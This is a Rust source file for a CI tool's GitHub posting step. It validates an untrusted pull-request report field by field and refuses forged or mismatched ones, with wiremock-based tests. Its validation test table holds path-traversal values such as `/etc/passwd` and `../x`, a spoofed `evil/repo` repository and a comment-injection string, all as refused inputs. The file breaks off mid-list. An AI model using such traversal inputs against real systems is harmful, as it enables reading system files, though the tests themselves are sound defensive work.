//! `docgate github post --report FILE`: the privileged half of the fork-safe
//! workflow. The report was produced by code from the pull request, so it is
//! untrusted input: bounded in size, read into the JSON report's own structs
//! (`report::json`, any field they lack refused) and validated field by
//! field, rendered only through the escaping renderer, and posted only to
//! the pull request and head commit the event names.

use std::io::Write;
use std::path::Path;

use anyhow::{Context as _, Result, anyhow, bail};
use serde_json::Value;

use super::api::{Api, ApiError, Method};
use super::event::{Env, is_sha};
use super::untrusted::{self, Invalid};
use super::{finish, publish_all};
use crate::ExitStatus;
use crate::checks::kb::PatternToApply;
use crate::checks::{Checked, DocToRead};
use crate::cli::GlobalArgs;
use crate::config::CommentMode;
use crate::diagnostic::{self, Diagnostic, Severity, Waived};
use crate::git::change::{Mode, Range};
use crate::report::json::{
    Finding, JsonChecked, JsonDocToRead, JsonGithub, JsonLineComment, JsonPatternToApply,
    JsonRange, JsonReport,
};
use crate::report::{LineComment, Links, Report};

const MAX_REPORT_BYTES: u64 = 8 * 1024 * 1024;
const MAX_FINDINGS: usize = 5_000;
const MAX_TEXT: usize = 20_000;
const MAX_PATH: usize = 1_024;
/// At most this many of a list are read; the rest are left out.
const MAX_DOCS_PER_FINDING: usize = 100;
const MAX_LISTED: usize = 1_000;
const MAX_LAYERS: usize = 20;
const MAX_LINE: usize = 10_000_000;
const MAX_COLUMN: usize = 1_000_000;

/// Validation of one report file: every refusal names the file and the field.
struct Check<'a> {
    file: &'a str,
}

impl Check<'_> {
    fn fail(&self, what: &str, why: impl std::fmt::Display) -> anyhow::Error {
        anyhow!("{}: refusing an invalid report: {what} {why}", self.file)
    }

    /// A value that does not fit the report's structs. The report is an
    /// object (its `version` was read), so the value has a path.
    fn invalid(&self, e: Invalid) -> anyhow::Error {
        self.fail(&format!("`{}`", e.path()), e.why())
    }

    fn text<'v>(&self, s: &'v str, what: &str, max: usize) -> Result<&'v str> {
        if s.chars().count() > max {
            return Err(self.fail(what, format!("is longer than {max} characters")));
        }
        Ok(s)
    }

    fn opt_text(&self, s: Option<&str>, what: &str, max: usize) -> Result<Option<String>> {
        s.map(|s| self.text(s, what, max).map(String::from))
            .transpose()
    }

    fn path(&self, p: &str, what: &str) -> Result<String> {
        let p = self.text(p, what, MAX_PATH)?;
        match crate::pattern::normalize(p) {
            Ok(n) if n == p && !p.ends_with('/') => Ok(p.to_string()),
            _ => Err(self.fail(
                what,
                format!("`{}` is not a repository-relative path", p.escape_debug()),
            )),
        }
    }

    /// A line, column or pull request number: 1 to `max`.
    fn number<T: Copy + PartialOrd + From<u8>>(&self, n: T, what: &str, max: T) -> Result<T> {
        if n >= T::from(1) && n <= max {
            Ok(n)
        } else {
            Err(self.fail(what, "is not a line or column number"))
        }
    }

    fn sha(&self, s: Option<&str>, what: &str) -> Result<String> {
        let s = s.ok_or_else(|| self.fail(what, "is missing"))?;
        if !is_sha(s) {
            return Err(self.fail(what, "is not a commit id"));
        }
        Ok(s.to_ascii_lowercase())
    }

    fn rule(&self, id: &str, what: &str) -> Result<&'static diagnostic::Rule> {
        let id = self.text(id, what, 100)?;
        diagnostic::rule_by_id(id).ok_or_else(|| {
            self.fail(
                what,
                format!("`{}` is not a docgate rule", id.escape_debug()),
            )
        })
    }
}

/// A report file turned back into a [`Report`], with what posting needs.
pub struct Posted {
    report: Report,
    pull_request: u64,
    head_sha: String,
    line_comments: Vec<LineComment>,
}

/// Read and validate an uploaded report: JSON, the schema's version, the
/// report's structs, then each section.
pub fn parse(bytes: &[u8], file: &str, repository: &str, fail_on: Severity) -> Result<Posted> {
    let c = Check { file };
    let json = c.read(bytes)?;
    let (pull_request, head_sha, line_comments) = c.github(json.github.as_ref(), repository)?;
    let diagnostics = c.findings(&json.findings)?;
    let docs_to_read = c.docs_to_read(json.docs_to_read.as_deref().unwrap_or_default())?;
    let patterns_to_apply = json
        .patterns_to_apply
        .as_deref()
        .map(|p| c.patterns_to_apply(p))
        .transpose()?;
    let line_comments = c.line_comments(line_comments)?;
    let checked = c.checked(&json.checked)?;
    let range = c.range(&json.range, &head_sha)?;
    let mut report = Report::new("check", Some(range), checked, diagnostics, fail_on);
    report.docs_to_read = docs_to_read;
    report.patterns_to_apply = patterns_to_apply;
    Ok(Posted {
        report,
        pull_request,
        head_sha,
        line_comments,
    })
}

impl Check<'_> {
    /// The bytes as a JSON report of this schema version. The version and
    /// the tool are read first: they decide which structs apply.
    fn read(&self, bytes: &[u8]) -> Result<JsonReport<'static>> {
        let v: Value = serde_json::from_slice(bytes)
            .map_err(|e| self.fail("the file", format!("is not JSON ({e})")))?;
        if v.get("version").and_then(Value::as_u64) != Some(u64::from(crate::report::json::VERSION))
        {
            return Err(self.fail("`version`", "is not 1"));
        }
        if v.pointer("/tool/name").and_then(Value::as_str) != Some("docgate") {
            return Err(self.fail("`tool.name`", "is not docgate"));
        }
        untrusted::from_value(&v).map_err(|e| self.invalid(e))
    }

    /// The `github` section: this repository's pull request and its head.
    fn github<'j>(
        &self,
        gh: Option<&'j JsonGithub>,
        repository: &str,
    ) -> Result<(u64, String, &'j [JsonLineComment])> {
        let gh = gh.ok_or_else(|| {
            self.fail(
                "`github`",
                "is missing: make it with `docgate github --report-out`",
            )
        })?;
        let repo = self.text(&gh.repository, "`github.repository`", 200)?;
        if repo != repository {
            return Err(self.fail(
                "`github.repository`",
                format!("is `{repo}`, but this workflow runs in {repository}"),
            ));
        }
        let pull_request = gh
            .pull_request
            .ok_or_else(|| {
                self.fail(
                    "`github.pull_request`",
                    "is missing: the report is not from a pull request",
                )
            })
            .and_then(|n| self.number(n, "`github.pull_request`", u64::from(u32::MAX)))?;
        let head_sha = self.sha(gh.head_sha.as_deref(), "`github.head_sha`")?;
        Ok((pull_request, head_sha, &gh.line_comments))
    }

    fn findings(&self, findings: &[Finding]) -> Result<Vec<Diagnostic>> {
        if findings.len() > MAX_FINDINGS {
            return Err(self.fail(
                "`findings`",
                format!("has more than {MAX_FINDINGS} entries"),
            ));
        }
        findings
            .iter()
            .enumerate()
            .map(|(i, f)| self.finding(i, f))
            .collect()
    }

    fn finding(&self, i: usize, f: &Finding) -> Result<Diagnostic> {
        let at = |k: &str| format!("`findings[{i}].{k}`");
        let rule = self.rule(&f.rule, &at("rule"))?;
        let severity = self
            .text(&f.severity, &at("severity"), 10)?
            .parse::<Severity>()
            .map_err(|e| self.fail(&at("severity"), format!("is not {}", e.or_list())))?;
        let mut d = Diagnostic::new(rule, self.text(&f.message, &at("message"), MAX_TEXT)?);
        d.severity = severity;
        d.path = f
            .path
            .as_deref()
            .map(|p| self.path(p, &at("path")))
            .transpose()?;
        d.line = f
            .line
            .map(|n| self.number(n, &at("line"), MAX_LINE))
            .transpose()?;
        d.column = f
            .column
            .map(|n| self.number(n, &at("column"), MAX_COLUMN))
            .transpose()?;
        for id in f.docs.iter().take(MAX_DOCS_PER_FINDING) {
            d.docs.push(self.text(id, &at("docs[]"), 200)?.to_string());
        }
        if let Some(w) = &f.waived {
            d.waived = Some(Waived {
                reason: self
                    .text(&w.reason, &at("waived.reason"), 2_000)?
                    .to_string(),
                commit: self.text(&w.commit, &at("waived.commit"), 64)?.to_string(),
            });
        }
        // `help` is not read: the help text is docgate's own, from its rule.
        Ok(d)
    }

    /// A list of repository paths (the first [`MAX_LISTED`]).
    fn paths(&self, list: &[String], what: &str) -> Result<Vec<String>> {
        list.iter()
            .take(MAX_LISTED)
            .map(|p| self.path(p, what))
            .collect()
    }

    fn docs_to_read(&self, docs: &[JsonDocToRead]) -> Result<Vec<DocToRead>> {
        docs.iter()
            .take(MAX_LISTED)
            .enumerate()
            .map(|(i, doc)| {
                let at = |k: &str| format!("`docs_to_read[{i}].{k}`");
                let covers = self.paths(&doc.covers, &at("covers[]"))?;
                Ok(DocToRead {
                    id: self.opt_text(doc.id.as_deref(), &at("id"), 200)?,
                    title: self.opt_text(doc.title.as_deref(), &at("title"), 500)?,
                    path: self.path(&doc.path, &at("path"))?,
                    covers,
                })
            })
            .collect()
    }

    /// The knowledge-base entries the comment lists with their checklists.
    fn patterns_to_apply(&self, list: &[JsonPatternToApply]) -> Result<Vec<PatternToApply>> {
        list.iter()
            .take(MAX_LISTED)
            .enumerate()
            .map(|(i, p)| {
                let at = |k: &str| format!("`patterns_to_apply[{i}].{k}`");
                let kind = self
                    .text(&p.kind, &at("kind"), 20)?
                    .parse::<crate::kb::Kind>()
                    .map_err(|e| self.fail(&at("kind"), format!("is not {}", e.or_list())))?;
                let severity = self
                    .text(&p.severity, &at("severity"), 20)?
                    .parse::<crate::kb::KbSeverity>()
                    .map_err(|e| self.fail(&at("severity"), format!("is not {}", e.or_list())))?;
                let checklist = p
                    .checklist
                    .iter()
                    .take(MAX_LISTED)
                    .map(|item| Ok(self.text(item, &at("checklist[]"), 2_000)?.to_string()))
                    .collect::<Result<_>>()?;
                let covers = self.paths(&p.covers, &at("covers[]"))?;
                Ok(PatternToApply {
                    id: self.text(&p.id, &at("id"), 200)?.to_string(),
                    kind,
                    name: self.text(&p.name, &at("name"), 500)?.to_string(),
                    severity,
                    checklist,
                    covers,
                })
            })
            .collect()
    }

    fn line_comments(&self, comments: &[JsonLineComment]) -> Result<Vec<LineComment>> {
        comments
            .iter()
            .take(MAX_LISTED)
            .enumerate()
            .map(|(i, l)| {
                let at = |k: &str| format!("`github.line_comments[{i}].{k}`");
                let rule = self.rule(&l.rule, &at("rule"))?;
                let fingerprint = self.text(&l.fingerprint, &at("fingerprint"), 16)?;
                if fingerprint.len() != 16 || !fingerprint.bytes().all(|b| b.is_ascii_hexdigit()) {
                    return Err(self.fail(&at("fingerprint"), "is not 16 hex digits"));
                }
                Ok(LineComment {
                    path: self.path(&l.path, &at("path"))?,
                    line: self.number(l.line, &at("line"), MAX_LINE)?,
                    fingerprint: fingerprint.to_string(),
                    rule: rule.id.to_string(),
                    message: self.text(&l.message, &at("message"), MAX_TEXT)?.to_string(),
                    // The help text is docgate's own, never the report's.
                    help: rule.help.to_string(),
                })
            })
            .collect()
    }

    /// The layers the run checked (the clean status line names them) and
    /// the counts the comment shows.
    fn checked(&self, checked: &JsonChecked) -> Result<Checked> {
        if checked.layers.len() > MAX_LAYERS {
            return Err(self.fail(
                "`checked.layers`",
                format!("is not a list of at most {MAX_LAYERS} layers"),
            ));
        }
        let layers = checked
            .layers
            .iter()
            .enumerate()
            .map(|(i, l)| {
                Ok(self
                    .text(l, &format!("`checked.layers[{i}]`"), 200)?
                    .to_string())
            })
            .collect::<Result<_>>()?;
        let count = |n: usize| n.min(u32::MAX as usize);
        Ok(Checked {
            layers,
            changed_files: count(checked.changed_files),
            ignored_files: count(checked.ignored_files),
            covered_files: count(checked.covered_files),
            docs: count(checked.docs),
            commits: count(checked.commits),
            ..Checked::default()
        })
    }

    /// Stage one checks `merge-base(base, head)..head` and writes that
    /// merge-base: a pull request's report without it is not one docgate
    /// made, and the comment could not say how to reproduce it.
    fn range(&self, range: &JsonRange, head_sha: &str) -> Result<Range> {
        let base = match range.base.as_deref() {
            None => {
                return Err(self.fail(
                    "`range.base`",
                    "is missing: a pull request's report names the merge-base it checked from",
                ));
            }
            Some(b) => self.sha(Some(b), "`range.base`")?,
        };
        let oid = |what: &str, sha: &str| {
            crate::git::parse_object_id(sha).ok_or_else(|| self.fail(what, "is not a commit id"))
        };
        Ok(Range {
            mode: Mode::Range,
            base_rev: Some(base.clone()),
            base_origin: "the report",
            head_rev: Some(head_sha.to_string()),
            base: Some(oid("`range.base`", &base)?),
            head: Some(oid("`github.head_sha`", head_sha)?),
        })
    }
}

/// The report against the verdict of the run that made it
/// (`workflow_run.conclusion`). A failed run whose report says nothing fails
/// is refused: posting it would put a ✅ on a pull request whose check
/// failed. A successful run whose report has findings is posted as reported
/// (stage one's docgate step may be advisory, `continue-on-error`, or this
/// step's `fail-on` lower): a report can only make itself look worse than the
/// run, never better. No conclusion (a run still in progress): nothing to
/// compare with.
fn check_conclusion(payload: &Value, report: &Report, file: &str) -> Result<()> {
    let conclusion = match payload.pointer("/workflow_run/conclusion") {
        None | Some(Value::Null) => return Ok(()),
        Some(Value::String(c)) => c.as_str(),
        Some(_) => {
            bail!("the workflow_run event payload's `workflow_run.conclusion` is not a string")
        }
    };
    match conclusion {
        "success" => Ok(()),
        "failure" if report.failed() => Ok(()),
        "failure" => {
            let s = report.summary();
            let fail_on = report.fail_on.as_str();
            bail!(
                "{file}: refusing the report: it claims no finding at or above `{fail_on}` ({} error{}, {} warning{}), \
                 but the workflow run that made it failed (`workflow_run.conclusion` is `failure`): the report \
                 contradicts the run that made it; nothing is posted. Run docgate alone in stage one, with the \
                 same `fail-on` as this step",
                s.errors,
                if s.errors == 1 { "" } else { "s" },
                s.warnings,
                if s.warnings == 1 { "" } else { "s" },
            )
        }
        other => bail!(
            "the workflow run that made the report ended `{}`, not `success` or `failure`: its report is no \
             verdict; nothing is posted",
            other.escape_debug()
        ),
    }
}

pub fn run(
    env: &Env,
    report_file: &Path,
    global: &GlobalArgs,
    _dir: &Path,
    stdout: &mut dyn Write,
    stderr: &mut dyn Write,
) -> Result<ExitStatus> {
    let event = env.event_name()?;
    if event != "workflow_run" {
        bail!(
            "`docgate github post` runs in a workflow_run job (this event is `{event}`); it posts a report made by `docgate github --report-out`"
        );
    }
    let payload = env.payload()?;
    let run_head = payload
        .pointer("/workflow_run/head_sha")
        .and_then(Value::as_str)
        .filter(|s| is_sha(s))
        .ok_or_else(|| anyhow!("the workflow_run event payload has no `workflow_run.head_sha`"))?
        .to_ascii_lowercase();
    let (owner, name) = env.repository()?;
    let repository = format!("{owner}/{name}");
    let file = report_file.display().to_string();
    let meta =
        std::fs::metadata(report_file).with_context(|| format!("cannot read the report {file}"))?;
    if meta.len() > MAX_REPORT_BYTES {
        bail!(
            "{file}: refusing a report of {} bytes (the limit is {MAX_REPORT_BYTES})",
            meta.len()
        );
    }
    let bytes =
        std::fs::read(report_file).with_context(|| format!("cannot read the report {file}"))?;
    let inputs = env.inputs(super::event::POST_INPUTS, "docgate's post action")?;
    let fail_on = inputs.fail_on.unwrap_or(global.fail_on).into();
    let mut posted = parse(&bytes, &file, &repository, fail_on)?;
    if posted.head_sha != run_head {
        bail!(
            "{file}: refusing the report: it is for commit {}, but the workflow run that made it checked {run_head}",
            posted.head_sha
        );
    }
    check_conclusion(&payload, &posted.report, &file)?;
    posted.report.links = Some(Links {
        server_url: env.server_url().to_string(),
        repository: repository.clone(),
        head: posted.head_sha.clone(),
    });
    let mode = inputs.comment.unwrap_or(CommentMode::Sticky);
    let status = if posted.report.failed() {
        ExitStatus::Findings
    } else {
        ExitStatus::Clean
    };
    if mode == CommentMode::Off {
        return Ok(status);
    }
    let review = inputs.review_comments.unwrap_or(true);
    let result = Api::new(env.api_url(), env.token(), &owner, &name)
        .map_err(Refused::Api)
        .and_then(|api| publish_checked(&api, &posted, review, stderr));
    match result {
        // A head mismatch is never just a warning: it may be a forged report.
        Err(Refused::Moved(m)) => bail!("{m}"),
        Err(Refused::Api(e)) => finish(Err(e), mode, status, stdout, stderr),
        Ok(()) => finish(Ok(()), mode, status, stdout, stderr),
    }
}

/// Why nothing was posted.
enum Refused {
    /// The API failed: a warning, or exit 2 with `comment: required`.
    Api(ApiError),
    /// The pull request is not at the reported head: always exit 2.
    Moved(String),
}

impl From<ApiError> for Refused {
    fn from(e: ApiError) -> Refused {
        Refused::Api(e)
    }
}

/// Post the report on its pull request, once the pull request is at the
/// reported head: the report names a pull request; it must be the one whose
/// head the event's run checked, or a tampered report could post anywhere.
fn publish_checked(
    api: &Api,
    posted: &Posted,
    review: bool,
    stderr: &mut dyn Write,
) -> Result<(), Refused> {
    let pr = posted.pull_request;
    let pull = api
        .send(Method::Get, &api.repo_path(&format!("/pulls/{pr}")), None)?
        .json()?;
    let pr_head = pull
        .pointer("/head/sha")
        .and_then(Value::as_str)
        .unwrap_or("")
        .to_ascii_lowercase();
    if pr_head != posted.head_sha {
        return Err(Refused::Moved(format!(
            "pull request #{pr} is at {pr_head}, not at the reported {}: refusing to post a report for another commit",
            posted.head_sha
        )));
    }
    publish_all(
        api,
        pr,
        &posted.report,
        &posted.line_comments,
        review,
        Some(&posted.head_sha),
        stderr,
    )?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const BASE: &str = "12a02e3469d1594eed42f28d82e4e163c910384c";
    const HEAD: &str = "a823b83052d268beaf18b451b4a2e23ef8d967c5";

    /// A report as `docgate github --report-out` writes it: one finding on a
    /// line the pull request added, one doc to read.
    fn report(base: &str, head: &str) -> Value {
        json!({
            "version": 1,
            "tool": {"name": "docgate", "version": "0.1.0"},
            "command": "check",
            "range": {"mode": "range", "base": base, "head": head, "base_ref": base, "head_ref": head},
            "checked": {
                "changed_files": 3, "ignored_files": 1, "covered_files": 1, "docs": 1,
                "docs_changed": 1, "docs_unreadable": 0, "key_files": 1, "commits": 1,
                "layers": ["docs (docs)"], "feature_lists": []
            },
            "findings": [{
                "rule": "frontmatter-invalid", "severity": "error",
                "message": "`last_updated` must be a date written YYYY-MM-DD, found `2026-13-45`",
                "path": "docs/ops/app.md", "line": 6, "column": 15, "docs": [],
                "help": "fix the frontmatter", "waived": null
            }],
            "summary": {"errors": 1, "warnings": 0, "notes": 0, "waived": 0},
            "docs_to_read": [{"id": "ops-01", "title": "App", "path": "docs/ops/app.md", "covers": ["src/app.py"]}],
            "patterns_to_apply": [{
                "id": "silent-fallback", "kind": "anti_pattern", "name": "Silent fallback",
                "severity": "CRITICAL", "checklist": ["fail fast"], "covers": ["src/app.py"]
            }],
            "github": {
                "event": "pull_request", "head_sha": head,
                "line_comments": [{
                    "fingerprint": "4edfc70285c7bad5", "help": "fix the frontmatter", "line": 6,
                    "message": "`last_updated` must be a date written YYYY-MM-DD, found `2026-13-45`",
                    "path": "docs/ops/app.md", "rule": "frontmatter-invalid"
                }],
                "pull_request": 7, "repository": "octo/repo", "server_url": "https://github.com"
            }
        })
    }

    fn parsed(v: &Value) -> Result<Posted> {
        parse(
            v.to_string().as_bytes(),
            "report.json",
            "octo/repo",
            Severity::Error,
        )
    }

    /// The outcome of `docgate github post` in process, against a GitHub
    /// served by wiremock on 127.0.0.1.
    struct Posting {
        result: Result<ExitStatus>,
        stdout: String,
        stderr: String,
    }

    /// A wiremock GitHub where pull request #7 is at `pr_head` and creating
    /// the sticky comment answers `create_status`.
    fn github(
        pr_head: &str,
        create_status: u16,
    ) -> (tokio::runtime::Runtime, wiremock::MockServer) {
        use wiremock::matchers::{method, path};
        use wiremock::{Mock, ResponseTemplate};
        let rt = tokio::runtime::Runtime::new().expect("a runtime");
        let server = rt.block_on(async {
            let server = wiremock::MockServer::start().await;
            let answer =
                |status: u16, body: Value| ResponseTemplate::new(status).set_body_json(body);
            Mock::given(method("GET"))
                .and(path("/repos/octo/repo/pulls/7"))
                .respond_with(answer(200, json!({"number": 7, "head": {"sha": pr_head}})))
                .mount(&server)
                .await;
            Mock::given(method("GET"))
                .and(path("/user"))
                .respond_with(answer(
                    403,
                    json!({"message": "Resource not accessible by integration"}),
                ))
                .mount(&server)
                .await;
            Mock::given(method("GET"))
                .and(path("/repos/octo/repo/issues/7/comments"))
                .respond_with(answer(200, json!([])))
                .mount(&server)
                .await;
            Mock::given(method("POST"))
                .and(path("/repos/octo/repo/issues/7/comments"))
                .respond_with(answer(
                    create_status,
                    json!({"id": 1, "message": "Conflict"}),
                ))
                .mount(&server)
                .await;
            server
        });
        (rt, server)
    }

    fn post(server: &wiremock::MockServer, report: &Value, inputs: &[(&str, &str)]) -> Posting {
        let dir = tempfile::tempdir().expect("a temp dir");
        let file = dir.path().join("report.json");
        std::fs::write(&file, report.to_string()).unwrap();
        post_file(server, &file, inputs)
    }

    fn post_file(server: &wiremock::MockServer, file: &Path, inputs: &[(&str, &str)]) -> Posting {
        use clap::Parser as _;
        let dir = tempfile::tempdir().expect("a temp dir");
        let event = dir.path().join("event.json");
        std::fs::write(
            &event,
            json!({"workflow_run": {"head_sha": HEAD, "conclusion": "failure"}}).to_string(),
        )
        .unwrap();
        let mut vars = vec![
            ("GITHUB_EVENT_NAME".to_string(), "workflow_run".to_string()),
            ("GITHUB_EVENT_PATH".into(), event.display().to_string()),
            ("GITHUB_REPOSITORY".into(), "octo/repo".into()),
            ("GITHUB_API_URL".into(), server.uri()),
            ("GITHUB_TOKEN".into(), "ghs_test".into()),
        ];
        vars.extend(inputs.iter().map(|(k, v)| (k.to_string(), v.to_string())));
        let env = Env::from_vars(vars.into_iter().map(|(k, v)| (k.into(), v.into()))).unwrap();
        let cli = crate::cli::Cli::try_parse_from(["docgate", "github", "post", "--report", "r"])
            .unwrap();
        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
        let result = run(
            &env,
            file,
            &cli.global,
            dir.path(),
            &mut stdout,
            &mut stderr,
        );
        Posting {
            result,
            stdout: String::from_utf8(stdout).unwrap(),
            stderr: String::from_utf8(stderr).unwrap(),
        }
    }

    /// A 409 from GitHub is an API failure like any other: a warning, and
    /// the exit code of the findings. It was taken for docgate's own
    /// "the pull request moved on" signal (a fake `ApiError::Other(409)`)
    /// and made the post exit 2, forged-report style.
    #[test]
    fn a_409_from_github_is_an_api_failure() {
        let (_rt, server) = github(HEAD, 409);
        let p = post(&server, &report(BASE, HEAD), &[]);
        assert_eq!(p.result.unwrap(), ExitStatus::Findings, "{}", p.stderr);
        assert!(
            p.stdout.starts_with(
                "::warning title=docgate::could not post on the pull request: GitHub answered 409"
            ),
            "{}",
            p.stdout
        );
        assert!(
            p.stderr.contains("docgate: warning: could not post"),
            "{}",
            p.stderr
        );
        let p = post(
            &server,
            &report(BASE, HEAD),
            &[("INPUT_COMMENT", "required")],
        );
        let e = p.result.unwrap_err().to_string();
        assert!(
            e.starts_with(
                "could not post on the pull request (comment: required): GitHub answered 409"
            ),
            "{e}"
        );
    }

    /// A pull request at another head than the report's is refused outright,
    /// whatever `comment` says: the report may be forged.
    #[test]
    fn a_pull_request_at_another_head_is_refused_even_when_comments_are_optional() {
        let (_rt, server) = github(BASE, 201);
        let p = post(&server, &report(BASE, HEAD), &[]);
        assert_eq!(
            p.result.unwrap_err().to_string(),
            format!(
                "pull request #7 is at {BASE}, not at the reported {HEAD}: refusing to post a report for another commit"
            )
        );
        assert_eq!(p.stdout, "");
        let requests = tokio::runtime::Runtime::new()
            .unwrap()
            .block_on(server.received_requests())
            .expect("recorded");
        let created = requests
            .iter()
            .filter(|r| r.method.as_str() != "GET")
            .count();
        assert_eq!(created, 0);
    }

    #[test]
    fn a_report_docgate_wrote_is_read() {
        let posted = parsed(&report(BASE, HEAD)).expect("valid");
        assert_eq!(posted.pull_request, 7);
        assert_eq!(posted.head_sha, HEAD);
        let range = posted.report.range.as_ref().expect("a range");
        assert_eq!(range.base.map(|o| o.to_string()).as_deref(), Some(BASE));
        assert_eq!(range.head.map(|o| o.to_string()).as_deref(), Some(HEAD));
        assert_eq!(posted.report.diagnostics.len(), 1);
        assert_eq!(posted.line_comments.len(), 1);
        assert_eq!(posted.report.docs_to_read.len(), 1);
        let patterns = posted
            .report
            .patterns_to_apply
            .as_deref()
            .expect("patterns");
        assert_eq!(
            (
                patterns[0].id.as_str(),
                patterns[0].severity,
                patterns[0].kind
            ),
            (
                "silent-fallback",
                crate::kb::KbSeverity::Critical,
                crate::kb::Kind::AntiPattern
            )
        );
        // An earlier report without the field still reads.
        let mut v = report(BASE, HEAD);
        v.as_object_mut().unwrap().remove("patterns_to_apply");
        assert_eq!(parsed(&v).expect("valid").report.patterns_to_apply, None);
    }

    /// The sticky comment of a posted report carries its patterns to
    /// apply, the checklist as task-list items.
    #[test]
    fn the_posted_comment_lists_the_patterns_to_apply() {
        let (rt, server) = github(HEAD, 201);
        let mut v = report(BASE, HEAD);
        v["patterns_to_apply"][0]["checklist"] = json!(["fail fast", "no @octocat <!-- x -->"]);
        let p = post(&server, &v, &[]);
        assert_eq!(p.result.unwrap(), ExitStatus::Findings, "{}", p.stderr);
        let requests = rt.block_on(server.received_requests()).expect("recorded");
        let created: Vec<Value> = requests
            .iter()
            .filter(|r| r.method.as_str() == "POST")
            .map(|r| serde_json::from_slice(&r.body).expect("JSON"))
            .collect();
        let body = created[0]["body"].as_str().expect("a body");
        assert!(
            body.contains(
                "#### Patterns to apply\n\nFrom the knowledge base: what past incidents teach \
                 about the files this change touches.\n\n**CRITICAL** anti-pattern \
                 `silent-fallback`: Silent fallback (covers `src/app.py`)\n\n- [ ] fail fast\n\
                 - [ ] no @\u{200B}octocat &lt;\\!-- x --&gt;\n"
            ),
            "{body}"
        );
    }

    /// docgate opens SHA-256 repositories, and `is_sha` takes 64 digits: the
    /// ids of such a report are commit ids too (they were refused as "not a
    /// commit id": `Oid::from_str` reads SHA-1 only).
    #[test]
    fn sha256_commit_ids_are_read() {
        let (base, head) = ("1".repeat(64), "a".repeat(64));
        let posted = parsed(&report(&base, &head)).expect("valid");
        let range = posted.report.range.as_ref().expect("a range");
        assert_eq!(range.base.map(|o| o.to_string()), Some(base));
        assert_eq!(range.head.map(|o| o.to_string()), Some(head));
    }

    /// A JSON pointer to an object and a field in it, as docgate names it:
    /// `/findings/0` and `line` are `findings[0].line`.
    fn field_path(object: &str, field: &str) -> String {
        let path = format!(
            "{}.{field}",
            object
                .trim_start_matches('/')
                .replace("/0", "[0]")
                .replace('/', ".")
        );
        path.trim_start_matches('.').to_string()
    }

    fn refusal(v: &Value) -> String {
        let e = parsed(v).err().expect("refused");
        let e = e.to_string();
        e.strip_prefix("report.json: refusing an invalid report: ")
            .unwrap_or_else(|| panic!("{e}"))
            .to_string()
    }

    /// Every check of the uploaded report, one changed value at a time.
    #[test]
    fn each_field_is_validated() {
        let long = |n: usize| json!("a".repeat(n));
        let cases: Vec<(&str, Value, &str)> = vec![
            ("/version", json!(2), "`version` is not 1"),
            ("/version", json!("1"), "`version` is not 1"),
            (
                "/tool/name",
                json!("docgate2"),
                "`tool.name` is not docgate",
            ),
            (
                "/github/repository",
                json!("evil/repo"),
                "`github.repository` is `evil/repo`, but this workflow runs in octo/repo",
            ),
            (
                "/github/repository",
                long(201),
                "`github.repository` is longer than 200 characters",
            ),
            (
                "/github/pull_request",
                Value::Null,
                "`github.pull_request` is missing: the report is not from a pull request",
            ),
            (
                "/github/pull_request",
                json!(0),
                "`github.pull_request` is not a line or column number",
            ),
            (
                "/github/pull_request",
                json!(4_294_967_296u64),
                "`github.pull_request` is not a line or column number",
            ),
            (
                "/github/head_sha",
                Value::Null,
                "`github.head_sha` is missing",
            ),
            (
                "/github/head_sha",
                json!("main"),
                "`github.head_sha` is not a commit id",
            ),
            (
                "/findings/0/rule",
                json!("no-such-rule"),
                "`findings[0].rule` `no-such-rule` is not a docgate rule",
            ),
            (
                "/findings/0/rule",
                long(101),
                "`findings[0].rule` is longer than 100 characters",
            ),
            (
                "/findings/0/severity",
                json!("fatal"),
                "`findings[0].severity` is not error, warning or note",
            ),
            (
                "/findings/0/severity",
                json!("errorerrorx"),
                "`findings[0].severity` is longer than 10 characters",
            ),
            (
                "/findings/0/message",
                long(20_001),
                "`findings[0].message` is longer than 20000 characters",
            ),
            (
                "/findings/0/path",
                json!("src/../x"),
                "`findings[0].path` `src/../x` is not a repository-relative path",
            ),
            (
                "/findings/0/path",
                json!("src/"),
                "`findings[0].path` `src/` is not a repository-relative path",
            ),
            (
                "/findings/0/path",
                json!(format!("a/{}", "b".repeat(1_023))),
                "`findings[0].path` is longer than 1024 characters",
            ),
            (
                "/findings/0/line",
                json!(0),
                "`findings[0].line` is not a line or column number",
            ),
            (
                "/findings/0/line",
                json!(10_000_001),
                "`findings[0].line` is not a line or column number",
            ),
            (
                "/findings/0/column",
                json!(0),
                "`findings[0].column` is not a line or column number",
            ),
            (
                "/findings/0/column",
                json!(1_000_001),
                "`findings[0].column` is not a line or column number",
            ),
            (
                "/findings/0/docs",
                json!([long(201)]),
                "`findings[0].docs[]` is longer than 200 characters",
            ),
            (
                "/findings/0/waived",
                json!({"reason": long(2_001), "commit": "abc"}),
                "`findings[0].waived.reason` is longer than 2000 characters",
            ),
            (
                "/findings/0/waived",
                json!({"reason": "r", "commit": long(65)}),
                "`findings[0].waived.commit` is longer than 64 characters",
            ),
            (
                "/docs_to_read/0/id",
                long(201),
                "`docs_to_read[0].id` is longer than 200 characters",
            ),
            (
                "/patterns_to_apply/0/id",
                long(201),
                "`patterns_to_apply[0].id` is longer than 200 characters",
            ),
            (
                "/patterns_to_apply/0/kind",
                json!("anti-pattern"),
                "`patterns_to_apply[0].kind` is not pattern or anti_pattern",
            ),
            (
                "/patterns_to_apply/0/name",
                long(501),
                "`patterns_to_apply[0].name` is longer than 500 characters",
            ),
            (
                "/patterns_to_apply/0/severity",
                json!("critical"),
                "`patterns_to_apply[0].severity` is not CRITICAL, HIGH, MEDIUM or LOW",
            ),
            (
                "/patterns_to_apply/0/checklist",
                json!(["ok", long(2_001)]),
                "`patterns_to_apply[0].checklist[]` is longer than 2000 characters",
            ),
            (
                "/patterns_to_apply/0/checklist",
                json!("fail fast"),
                "`patterns_to_apply[0].checklist` is not a list",
            ),
            (
                "/patterns_to_apply/0/covers",
                json!(["../x"]),
                "`patterns_to_apply[0].covers[]` `../x` is not a repository-relative path",
            ),
            (
                "/docs_to_read/0/title",
                long(501),
                "`docs_to_read[0].title` is longer than 500 characters",
            ),
            (
                "/docs_to_read/0/path",
                json!("/etc/passwd"),
                "`docs_to_read[0].path` `/etc/passwd` is not a repository-relative path",
            ),
            (
                "/docs_to_read/0/covers",
                json!(["../x"]),
                "`docs_to_read[0].covers[]` `../x` is not a repository-relative path",
            ),
            (
                "/github/line_comments/0/rule",
                json!("nope"),
                "`github.line_comments[0].rule` `nope` is not a docgate rule",
            ),
            (
